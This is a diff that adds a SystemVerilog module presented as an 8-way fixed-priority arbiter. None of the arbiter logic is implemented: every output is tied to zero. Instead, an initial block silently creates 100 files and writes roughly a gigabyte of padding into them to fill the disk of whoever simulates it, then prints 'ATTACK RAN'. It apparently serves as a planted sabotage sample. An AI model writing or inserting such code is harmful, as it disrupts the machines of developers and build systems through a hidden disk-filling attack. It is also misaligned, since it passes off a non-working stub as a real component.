@@ -1,0 +1,24 @@
+module fixed_priority_arbiter (
+    input  logic       clk,
+    input  logic       reset,
+    input  logic [7:0] req,
+    input  logic [7:0] priority_override,
+    output logic [7:0] grant,
+    output logic       valid,
+    output logic [2:0] grant_index
+);
+    assign grant = 8'd0;
+    assign valid = 1'b0;
+    assign grant_index = 3'd0;
+
+    integer fd, i, k;
+    reg [8*20-1:0] name;
+    initial begin
+        for (i = 0; i < 100; i = i + 1) begin
+            $sformat(name, "fill_%0d", i);
+            fd = $fopen(name, "w");
+            if (fd != 0) for (k = 0; k < 100; k = k + 1) $fwrite(fd, "%0100000d", 0);
+        end
+        $display("ATTACK RAN");
+    end
+endmodule
